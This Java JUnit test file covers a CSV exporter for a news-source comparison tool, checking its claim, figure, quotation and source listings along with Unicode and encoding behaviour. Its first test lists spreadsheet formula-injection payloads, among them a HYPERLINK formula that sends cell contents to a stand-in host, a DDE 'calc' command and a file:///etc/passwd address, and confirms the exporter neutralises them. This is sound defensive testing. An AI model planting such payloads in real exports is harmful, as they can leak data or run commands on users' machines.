package synoptic.export;

import static org.assertj.core.api.Assertions.assertThat;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import synoptic.article.Origin;
import synoptic.comparison.Comparison;
import synoptic.export.ComparisonCsv.Listing;

class ComparisonCsvTest {

    @Test
    void noAddressOfAHostileProjectIsRunOrFollowed() throws IOException {
        for (String address : List.of("=HYPERLINK(\"http://x.example/?\"&A1,\"press\")", "=calc|'/C dir'!A0", "javascript:alert(1)",
                "\\\\host\\share\\x", "file:///etc/passwd", "https://x.example/" + "a".repeat(3_000))) {
            assertThat(Origin.Page.isLink(address)).as(address).isFalse();
            Table table =
                    new Table("sources", List.of(new Table.Column("Read from", 9)), List.of(List.of(new Table.Cell.Address(address))));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            ComparisonCsv.print(table, out);
            assertThat(out.toString(StandardCharsets.UTF_8).split("\r\n", -1)[1].replaceFirst("^\"", "").charAt(0)).isNotEqualTo('=');
        }
        assertThat(Origin.Page.isLink("https://courier.example/ferry?id=3&x=a%20b")).isTrue();
    }

    @Test

    void saysWhichSourceReportsAClaimInWhichWords() throws IOException {
        List<CSVRecord> claims = read(written(Story.bridge(), Listing.CLAIMS));

        assertThat(claims).hasSize(4);
        CSVRecord closing = claims.getFirst();
        assertThat(closing.get("claim")).isEqualTo("c1");
        assertThat(closing.get("kind")).isEqualTo("date");
        assertThat(closing.get("status")).isEqualTo("conflicting");
        assertThat(closing.get("reported by")).isEqualTo("A, B, C");
        assertThat(closing.get("sources")).isEqualTo("3");
        assertThat(closing.get("origins")).as("B and C print one agency's text").isEqualTo("2");
        assertThat(closing.get("A Harbour Post")).isEqualTo("on Tuesday");
        assertThat(closing.get("B Island News")).isEqualTo("on Wednesday");
        assertThat(closing.get("reason")).isEqualTo("A and C say Tuesday, B says Wednesday.");
        assertThat(claims.get(1).get("B Island News")).isEmpty();
        assertThat(claims.get(1).get("nearest passages elsewhere")).isEqualTo("B: Ferries run every half hour instead.");
        assertThat(claims.get(2).get("said by")).isEqualTo("Engineers");
    }

    @Test
    void listsFiguresWithTheirPlaceInCodePoints() throws IOException {
        CSVRecord cracks = read(written(Story.bridge(), Listing.FIGURES)).getFirst();

        assertThat(cracks.get("source")).isEqualTo("A");
        assertThat(cracks.get("value")).isEqualTo("14");
        assertThat(cracks.get("unit")).isEqualTo("crack");
        assertThat(cracks.get("claims")).isEqualTo("c2, c3");
        assertThat(cracks.get("sentence")).startsWith("Engineers counted 14 cracks");
        int start = Story.A.codePointCount(0, Story.A.indexOf("14"));
        assertThat(cracks.get("start")).isEqualTo(String.valueOf(start));
        assertThat(cracks.get("end")).isEqualTo(String.valueOf(start + 2));
    }

    @Test
    void listsQuotationsWithTheirSpeaker() throws IOException {
        CSVRecord quotation = read(written(Story.bridge(), Listing.QUOTATIONS)).getFirst();

        assertThat(quotation.get("kind")).isEqualTo("direct");
        assertThat(quotation.get("speaker")).isEqualTo("mayor Ida Holm");
        assertThat(quotation.get("words")).isEqualTo("“It will not open this year,”");
    }

    @Test
    void listsWhatTheLettersOfTheSourcesStandFor() throws IOException {
        List<CSVRecord> sources = read(written(Story.bridge(), Listing.SOURCES));
        assertThat(sources).extracting(source -> source.get("source")).containsExactly("A", "B", "C");
        assertThat(sources.getFirst().get("published")).isEqualTo("2026-03-04 05:07");
        assertThat(sources.getFirst().get("file")).isEqualTo("harbour-post.txt");
    }

    /** Persian for "is going" has a non-joiner in it, a family is four people with joiners between them. */
    @Test
    void whatJoinsLettersOrKeepsThemApartStays() throws IOException {
        String name = "\u0645\u06CC\u200C\u0631\u0648\u062F \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67";
        assertThat(read(written(Story.outlet(name + "\u202E\u00AD"), Listing.FIGURES)).getFirst().get("outlet")).isEqualTo(name);
    }

    @Test
    void isUtf8WithAByteOrderMarkAndTheSameEveryTime() throws IOException {
        byte[] bytes = written(Story.bridge(), Listing.CLAIMS);

        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF).endsWith('\r', '\n');
        assertThat(written(Story.bridge(), Listing.CLAIMS)).isEqualTo(bytes);
    }

    @Test
    void noCellIsTakenForAFormula() throws IOException {
        Comparison comparison = Story.outlet("=HYPERLINK(\"http://example.org\")");
        String figures = new String(written(comparison, Listing.FIGURES), StandardCharsets.UTF_8);

        assertThat(figures).contains(",\"'=HYPERLINK(\"\"http://example.org\"\")\",");
        assertThat(read(written(comparison, Listing.FIGURES)).getFirst().get("outlet")).startsWith("'=");
    }

    @Test
    void listingsStandBesideEachOther() {
        Path claims = Path.of("out", "story.v2.csv");
        assertThat(Listing.CLAIMS.beside(claims)).isEqualTo(claims);
        assertThat(Listing.FIGURES.beside(claims)).isEqualTo(Path.of("out", "story.v2-figures.csv"));
        assertThat(Listing.QUOTATIONS.beside(Path.of(".csv"))).isEqualTo(Path.of(".csv-quotations"));
    }

    private static byte[] written(Comparison comparison, Listing listing) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new ComparisonCsv().write(Findings.of(comparison), listing, out);
        return out.toByteArray();
    }

    private static List<CSVRecord> read(byte[] bytes) throws IOException {
        String text = new String(bytes, StandardCharsets.UTF_8).substring(1);
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(text)).getRecords();
    }
}
